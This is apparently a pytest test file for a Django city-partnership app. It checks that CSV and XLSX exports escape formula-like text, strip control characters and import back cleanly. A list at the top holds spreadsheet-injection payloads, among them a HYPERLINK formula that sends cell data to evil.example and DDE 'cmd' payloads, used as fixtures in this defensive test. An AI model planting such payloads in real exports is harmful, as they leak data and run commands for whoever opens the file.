import csv
import io
import zipfile

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from twinning.core.exports import atomic_file, csv_cell, csv_uncell, table_bytes
from twinning.partnerships.models import Partnership
from twinning.partnerships.services import partnership_create, partnerships_import
from twinning.places.models import Place
from twinning.places.services import place_create

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cells_that_would_start_a_formula_are_kept_as_text(text):
    cell = csv_cell(text)
    assert cell.startswith("'")
    assert csv_uncell(cell) == text


def test_csv_cells_lose_control_characters_but_keep_line_breaks_and_numbers():
    assert csv_cell("Aar\x00hus\x01\x1b\x7f") == "Aarhus"
    assert csv_cell("two\nlines") == "two\nlines"
    assert csv_cell(-3) == "-3"
    assert csv_cell(None) == ""
    assert csv_uncell("'plain") == "'plain"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_stores_formula_like_text_as_text_and_drops_control_characters():
    rows = [[text] for text in HOSTILE] + [["N\x00UL and \x01 SOH"], [7]]
    data = table_bytes("xlsx", ["notes"], rows, title="notes")

    assert "<f>" not in _sheet_xml(data)
    sheet = load_workbook(io.BytesIO(data)).active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert values[: len(HOSTILE)] == HOSTILE
    assert all(cell.data_type == "s" for cell in cells[: len(HOSTILE) + 1])
    assert all(cell.quotePrefix for cell in cells[: len(HOSTILE)])
    assert values[len(HOSTILE)] == "NUL and  SOH"
    assert values[-1] == 7


def test_danish_csv_has_a_byte_order_mark_and_semicolons():
    with translation.override("da"):
        data = table_bytes("csv", ["by", "noter"], [["Århus", "1,5 mio."]], title="t")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig").splitlines() == ["by;noter", "Århus;1,5 mio."]
    english = table_bytes("csv", ["by", "noter"], [["Århus", "1,5 mio."]], title="t")
    assert english.decode().splitlines() == ["by,noter", 'Århus,"1,5 mio."']


def test_a_failed_write_leaves_no_file_and_keeps_the_earlier_one(tmp_path):
    path = tmp_path / "export.xlsx"
    with pytest.raises(RuntimeError), atomic_file(path) as stream:
        stream.write(b"partial")
        raise RuntimeError("disk full")
    assert not path.exists()
    assert list(tmp_path.iterdir()) == []

    path.write_bytes(b"good")
    with pytest.raises(RuntimeError), atomic_file(path) as stream:
        raise RuntimeError("disk full")
    assert path.read_bytes() == b"good"


@pytest.fixture
def hostile_partnership(db):
    aarhus = place_create(name="Aarhus", kind="municipality", country="DK")
    bergen = place_create(name="Bergen", kind="municipality", country="NO")
    partnership = partnership_create(party_a=aarhus, party_b=bergen, kind="sister_city")
    # Records written before input was checked may still hold control characters.
    Partnership.objects.filter(pk=partnership.pk).update(notes=HOSTILE[0] + "\x01\x1b")
    return partnership


def test_api_list_exports_open_despite_control_characters(hostile_partnership):
    Place.objects.filter(name="Bergen").update(name=HOSTILE[0] + "\x01\x1b")
    response = Client().get("/api/places?format=xlsx&country=NO")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    names = [row[header.index("name")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in names] == [HOSTILE[0]]
    assert names[0].data_type == "s"
    assert "<f>" not in _sheet_xml(response.content)

    response = Client().get("/api/places?format=csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert "'" + HOSTILE[0] in [row["name"] for row in rows]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_of_hostile_text_opens_and_imports_back(hostile_partnership, tmp_path, fmt):
    path = tmp_path / f"out.{fmt}"
    call_command("export_records", "partnerships", format=fmt, output=path)
    assert path.stat().st_size > 0
    Partnership.objects.all().delete()

    report = partnerships_import(path=path)

    assert report.partnerships_created == 1
    assert Partnership.objects.get().notes == HOSTILE[0]


def test_cli_danish_csv_imports_back(hostile_partnership, tmp_path):
    path = tmp_path / "out.csv"
    call_command("export_records", "partnerships", format="csv", output=path, danish=True)
    assert path.read_bytes().startswith(b"\xef\xbb\xbfparty_a;")
    Partnership.objects.all().delete()

    assert partnerships_import(path=path).partnerships_created == 1
